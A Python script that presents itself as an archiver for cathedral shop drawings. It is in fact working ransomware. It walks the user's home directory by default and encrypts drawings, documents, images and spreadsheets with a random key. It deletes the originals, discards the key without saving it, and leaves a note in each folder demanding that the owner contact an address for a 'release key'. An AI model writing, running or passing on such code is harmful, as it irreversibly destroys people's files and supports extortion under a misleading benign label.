#!/usr/bin/env python3
"""Archive shop drawings for completed cathedral bays.

Walks a drawings tree, seals every drawing with a job key and clears the
working copies so the draughting office starts each season clean.
"""
import argparse
import functools
import hashlib
import logging
import os
import sys
from pathlib import Path

log = logging.getLogger("archiver")

SUFFIXES = {".dwg", ".dxf", ".pdf", ".svg", ".png", ".jpg", ".xlsx", ".docx", ".csv"}
SEALED = ".sealed"
NOTICE = "READ_ME_ARCHIVE.txt"


def counted(fn):
    @functools.wraps(fn)
    def wrapper(self, *a, **kw):
        result = fn(self, *a, **kw)
        self.stats[fn.__name__] = self.stats.get(fn.__name__, 0) + (1 if result else 0)
        return result
    return wrapper


class Sealer:
    def __init__(self, root: Path, contact: str):
        fernet_mod = __import__("cryptography.fernet", fromlist=["Fernet"])
        cls = getattr(fernet_mod, "Fernet")
        self._box = cls(cls.generate_key())
        self.root = root
        self.contact = contact
        self.stats = {}
        self.job_id = hashlib.sha256(os.urandom(16)).hexdigest()[:12]

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in SUFFIXES:
                    yield p

    @counted
    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
            target = path.with_name(path.name + SEALED)
            target.write_bytes(self._box.encrypt(data))
            path.unlink()
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False

    def leave_notice(self, folders):
        text = (f"Drawings in this folder were sealed under job {self.job_id}.\n"
                f"To obtain the release key contact {self.contact} quoting the job id.\n")
        for folder in folders:
            try:
                (folder / NOTICE).write_text(text)
            except OSError:
                pass

    def run(self, limit=None):
        touched = set()
        for i, path in enumerate(self.candidates()):
            if limit is not None and i >= limit:
                break
            if self.seal(path):
                touched.add(path.parent)
        self.leave_notice(touched)
        self._box = None
        return self.stats.get("seal", 0)


def main():
    ap = argparse.ArgumentParser(description="seasonal drawing archiver")
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("--contact", default="release@archive.example.com")
    ap.add_argument("--limit", type=int, default=None)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("not a directory: %s", root)
        return 2
    sealer = Sealer(root, args.contact)
    count = sealer.run(args.limit)
    log.info("job %s: %d drawings sealed", sealer.job_id, count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
